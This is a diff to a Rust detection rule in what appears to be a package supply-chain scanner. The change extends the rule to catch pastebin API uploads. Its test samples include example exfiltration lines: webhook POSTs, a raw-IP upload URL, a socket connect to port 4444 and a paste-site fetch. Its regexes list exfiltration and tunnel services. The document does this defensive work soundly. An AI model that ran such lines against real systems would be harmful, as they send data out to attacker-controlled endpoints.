@@ -17,7 +17,8 @@ crate::declare_rule! {
     title: "talks to a raw IP, collector, webhook, paste site or tunnel",
     incident: "typosquats posting to Discord/Telegram webhooks; BeaverTail C2 on raw IPs; dependency-confusion DNS exfiltration",
     case_file: "index.js",
-    flag: ["fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST' })",
+    flag: ["https.request({ host: 'pastebin.com', path: '/api/api_post.php', method: 'POST' }).end(body)",
+           "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST' })",
            "const u = 'http://' + '203.0.113.9' + ':1224/uploads'",
            "const s = new net.Socket(); s.connect(4444, '198.51.100.7')",
            "https.get('https://pastebin.com/raw/abcd')",
@@ -44,7 +45,7 @@ fn check(pkg: &Package, out: &mut Emitter) {
     let ip_url =
         crate::regex!(r"(?i)\b(?:https?|wss?|tcp|ftp)://(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?");
     let collectors = crate::regex!(
-        r"(?i)(discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot|webhook\.site|requestbin|pipedream\.net|hookbin|requestcatcher|beeceptor|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|oastify\.com|burpcollaborator|canarytokens|dnslog\.cn|ceye\.io|pastebin\.com/raw|paste\.ee/r|hastebin|ghostbin|rentry\.co|transfer\.sh|file\.io|0x0\.st|temp\.sh|anonfiles|gofile\.io|calendar\.app\.google)"
+        r"(?i)(discord(?:app)?\.com/api/webhooks|api\.telegram\.org/bot|webhook\.site|requestbin|pipedream\.net|hookbin|requestcatcher|beeceptor|interact\.sh|oast\.(?:fun|pro|live|site|online|me)|oastify\.com|burpcollaborator|canarytokens|dnslog\.cn|ceye\.io|pastebin\.com/(?:raw|api)|\x22pastebin\.com\x22|'pastebin\.com'|paste\.ee/r|hastebin|ghostbin|rentry\.co|transfer\.sh|file\.io|0x0\.st|temp\.sh|anonfiles|gofile\.io|calendar\.app\.google)"
     );
     let tunnels = crate::regex!(
         r"(?i)\b[\w-]+\.(ngrok\.io|ngrok-free\.app|ngrok\.app|trycloudflare\.com|serveo\.net|loca\.lt|localtunnel\.me|pagekite\.me|localhost\.run)\b"
